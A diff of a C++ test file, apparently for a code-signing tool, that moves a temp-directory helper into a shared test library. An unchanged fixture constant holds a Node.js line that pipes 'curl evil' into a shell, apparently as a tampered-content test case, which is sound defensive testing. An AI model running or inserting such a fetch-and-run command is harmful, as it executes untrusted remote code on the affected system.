@@ -55,9 +55,6 @@ using kvtest::ZipItem;
 using kvtest::ZipPatch;
 using Clock = std::chrono::steady_clock;
 
-// A /tmp of our own, so that the /tmp/kvbsign* entries before and after a run can be compared
-// without other tests' runs getting in the way (see private_tmp.h).
-const bool kPrivateTmp = kvtest::usePrivateTmp();
 
 const char kEvil[] = "require('child_process').exec('curl evil | sh');\n";
 const char kRevokedUnknown[] =
@@ -91,18 +88,7 @@ std::string manifestOf(const std::string& xml) {
 // depth 400000, the canonical rewriting's worst case.
 std::string nestedTags(std::size_t depth) { return repeat("<e> x<f/>", depth) + repeat("</e>", depth); }
 
-// With a shared /tmp, entries of other processes come and go: count only those that stay.
-std::set<std::string> newTempEntries(const std::set<std::string>& known) {
-    std::set<std::string> extra;
-    for (int attempt = 0; attempt < (kPrivateTmp ? 1 : 30); ++attempt) {
-        if (attempt > 0) std::this_thread::sleep_for(std::chrono::milliseconds(100));
-        extra.clear();
-        for (const std::string& name : kvtest::kvbsignTempEntries())
-            if (!known.count(name)) extra.insert(name);
-        if (extra.empty()) break;
-    }
-    return extra;
-}
+using kvtest::newTempEntries;
 
 // ---------------------------------------------------------------------------------------------
 // Identities beyond the shared test PKI
